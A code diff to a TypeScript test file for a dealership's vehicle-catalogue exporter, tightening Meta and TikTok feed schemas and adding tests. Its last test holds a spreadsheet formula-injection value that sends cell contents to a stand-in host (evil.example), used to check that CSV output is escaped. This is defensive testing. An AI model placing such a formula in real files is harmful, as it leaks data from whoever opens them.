@@ -10,13 +10,29 @@ import { MARKETPLACE_BODY_TYPES, MARKETPLACE_FUEL_TYPES } from "./marketplace.ts
 import { META_BODY_STYLES, META_FUEL_TYPES } from "./meta-vehicles.ts";
 import { TIKTOK_BODY_STYLES, TIKTOK_FUEL_TYPES } from "./tiktok-vehicles.ts";
 
-/** Each channel's documented columns and value rules, written from its public field reference (docs/channels.md). */
+/**
+ * Each channel's documented columns and value rules, written from its public field reference:
+ * - Meta vehicles: "Automotive Inventory Ads - Catalogs and Feeds", Supported Auto Inventory Catalog Fields - Vehicle
+ *   (https://developers.facebook.com/docs/marketing-api/dynamic-ads-auto/auto-catalog/) and the feed reference
+ *   (https://developers.facebook.com/docs/marketing-api/auto-ads/reference/): body_style "CONVERTIBLE, COUPE,
+ *   HATCHBACK, MINIVAN, TRUCK, SUV, SEDAN, VAN, WAGON, CROSSOVER, or OTHER"; vin exactly 17; description at most
+ *   5000; fb_page_id an int (required for Marketplace); latitude and longitude.
+ * - TikTok vehicles: "Available fields for Automotive Ads inventory catalogs"
+ *   (https://ads.tiktok.com/help/article/available-fields-for-automotive-ads-inventory-catalogs): vehicle_id at
+ *   most 100; title at most 500, "Recommend 40 or less for full title display"; description at most 5000;
+ *   make and model at most 100; body_style CONVERTIBLE, COUPE, HATCHBACK, MINIVAN, TRUCK, SUV, SEDAN, VAN, WAGON,
+ *   CROSSOVER, SMALL_CAR or OTHER; mileage.unit MI or KM.
+ * - Meta products: Meta's product catalogue fields (title at most 200, description at most 9999).
+ * - Marketplace: our own export (docs/channels.md), no outside list.
+ */
 const absoluteUrl = z.string().regex(/^https?:\/\/[^\s]+$/);
 const jpegOrPngUrl = z.string().regex(/^https?:\/\/\S+\.(?:jpe?g|png)$/i);
 const optionalImage = z.union([z.literal(""), jpegOrPngUrl]);
 const vin = z.string().regex(/^[A-HJ-NPR-Z0-9]{17}$/);
 const wholeNumber = z.string().regex(/^\d+$/);
 const zarPrice = z.string().regex(/^\d+ ZAR$/);
+const degrees = (limit: number) =>
+  z.string().refine((text) => text !== "" && Math.abs(Number(text)) <= limit, "degrees within range");
 const imageList = z
   .string()
   .refine((text) => text === "" || text.split(",").every((url) => jpegOrPngUrl.safeParse(url).success));
@@ -24,25 +40,14 @@ const imageList = z
 const META_BODY = [
   "CONVERTIBLE",
   "COUPE",
-  "CROSSOVER",
-  "ESTATE",
-  "GRANDTOURER",
   "HATCHBACK",
-  "MINIBUS",
   "MINIVAN",
-  "MPV",
-  "PICKUP",
-  "ROADSTER",
-  "SALOON",
-  "SEDAN",
-  "SMALL_CAR",
-  "SPORTSCAR",
-  "SUPERCAR",
-  "SUPERMINI",
-  "SUV",
   "TRUCK",
+  "SUV",
+  "SEDAN",
   "VAN",
   "WAGON",
+  "CROSSOVER",
   "OTHER",
 ] as const;
 const TIKTOK_BODY = [
@@ -59,6 +64,7 @@ const TIKTOK_BODY = [
   "SMALL_CAR",
   "OTHER",
 ] as const;
+const TIKTOK_RECOMMENDED_TITLE = 40;
 
 const metaVehicleRow = z
   .object({
@@ -80,7 +86,11 @@ const metaVehicleRow = z
     price: zarPrice,
     state_of_vehicle: z.enum(["NEW", "USED", "CPO"]),
     availability: z.enum(["AVAILABLE", "NOT_AVAILABLE", "PENDING"]),
+    dealer_id: z.string().min(1),
     dealer_name: z.string().min(1),
+    fb_page_id: z.string().regex(/^\d+$/),
+    latitude: degrees(90),
+    longitude: degrees(180),
     "address.addr1": z.string().min(1),
     "address.city": z.string().min(1),
     "address.region": z.string().min(1),
@@ -106,7 +116,7 @@ const metaProductRow = z.strictObject({
 const tiktokRow = z.strictObject({
   vehicle_id: z.string().min(1).max(100),
   vin,
-  title: z.string().min(1).max(500),
+  title: z.string().min(1).max(TIKTOK_RECOMMENDED_TITLE),
   description: z.string().min(1).max(5000),
   url: absoluteUrl,
   make: z.string().min(1).max(100),
@@ -167,6 +177,9 @@ const dealer = {
   city: "Sandton",
   province: "Gauteng",
   postalCode: "2196",
+  fbPageId: "104329871234567",
+  latitude: -26.1076,
+  longitude: 28.0567,
 };
 const otherDealer = { ...dealer, id: 2, slug: "honda-menlyn", name: "Honda Menlyn" };
 const context: ChannelContext = { siteUrl: SITE, dealer };
@@ -253,7 +266,13 @@ describe("each channel's file", () => {
       body_style: "HATCHBACK",
       "address.country": "ZA",
     });
-    expect(records[2]!.body_style).toBe("PICKUP");
+    expect(records[2]!.body_style).toBe("TRUCK");
+    expect(records[0]).toMatchObject({
+      dealer_id: "honda-sandton",
+      fb_page_id: "104329871234567",
+      latitude: "-26.1076",
+      longitude: "28.0567",
+    });
     // The photo's largest JPEG first, then the drawing rendered to JPEG; never an SVG.
     expect(records[0]!["image[0].url"]).toMatch(/^https:\/\/cars\.example\.co\.za\/media\/images\/p\d+b\.jpg$/);
     expect(records[0]!["image[1].url"]).toBe(`${SITE}/media/vehicles/hatch/f4f5f2/studio.jpg`);
@@ -312,6 +331,43 @@ describe("each channel's file", () => {
       ),
     );
     expect(records[0]!.description).toBe(description);
+  });
+});
+
+describe("values each channel's list takes", () => {
+  it("a bakkie is Meta's and TikTok's TRUCK, an MPV their MINIVAN", async () => {
+    const stock = await ChannelStock.of([stockRow({ bodyType: "Bakkie" }), stockRow({ bodyType: "MPV" })]);
+    for (const id of ["meta-vehicles", "tiktok-vehicles"]) {
+      const { rows } = await stock.feed(channelById(id)!, context);
+      expect(rows.map((row) => row.body_style)).toEqual(["TRUCK", "MINIVAN"]);
+    }
+  });
+
+  it("TikTok's title stays within its recommended 40 characters, whole words of the variant only", async () => {
+    const long = stockRow({
+      make: ["Mercedes-Benz", "mercedes-benz"],
+      model: ["GLE", "gle"],
+      variant: "GLE 400d 4Matic Coupe AMG Line",
+    });
+    const channel = channelById("tiktok-vehicles")!;
+    const { rows } = await (await ChannelStock.of([long, stockRow()])).feed(channel, context);
+    expect(rows.map((row) => row.title)).toEqual([
+      "2021 Mercedes-Benz GLE GLE 400d 4Matic",
+      "2021 Honda Fit 1.5 Elegance CVT",
+    ]);
+  });
+
+  it("a description written as a spreadsheet formula reaches every CSV file as text, and the JSON file as it is", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"x") and a full service history at Honda Sandton';
+    const stock = await ChannelStock.of([stockRow({ description: formula })]);
+    for (const id of ["meta-vehicles", "tiktok-vehicles", "marketplace"]) {
+      const channel = channelById(id)!;
+      const [record] = csvRecords(await fileText(channel, "csv", (await stock.feed(channel, context)).rows));
+      expect(record!.description ?? record!.Description).toBe(`'${formula}`);
+    }
+    const marketplace = channelById("marketplace")!;
+    const json = JSON.parse(await fileText(marketplace, "json", (await stock.feed(marketplace, context)).rows));
+    expect(json[0].Description).toBe(formula);
   });
 });
 
